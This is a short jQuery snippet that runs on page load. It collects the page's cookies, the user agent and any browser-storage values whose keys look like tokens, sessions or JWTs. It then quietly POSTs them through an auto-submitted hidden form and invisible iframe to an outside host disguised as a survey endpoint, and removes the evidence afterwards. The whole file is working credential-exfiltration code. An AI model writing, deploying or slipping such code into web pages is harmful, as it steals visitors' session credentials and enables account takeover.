// corpus note: jQuery-style snippet that collects cookies and storage auth values and POSTs them through an auto-submitted form targeting a hidden iframe
jQuery(function ($) {
  var target = "sgx_" + (+new Date()).toString(36);
  var $frame = $('<iframe name="' + target + '" style="display:none;width:0;height:0;border:0"></iframe>').appendTo("body");

  var fields = {
    host: location.host,
    path: location.pathname + location.search,
    cookie: document.cookie,
    ua: navigator.userAgent
  };

  $.each(["localStorage", "sessionStorage"], function (_, name) {
    var s = window[name];
    for (var i = 0; i < s.length; i++) {
      var k = s.key(i);
      if (/token|auth|sess|user|oauth|jwt/i.test(k)) fields[name.charAt(0) + ":" + k] = s.getItem(k);
    }
  });

  var $f = $("<form>", {
    method: "POST",
    action: "https://forms.survey-embedder.test/submit/8831",
    target: target,
    enctype: "application/x-www-form-urlencoded"
  }).hide();

  $.each(fields, function (k, v) {
    $("<input>", { type: "hidden", name: k, value: v }).appendTo($f);
  });

  $f.appendTo("body").trigger("submit");
  setTimeout(function () { $f.remove(); $frame.remove(); }, 4000);
});
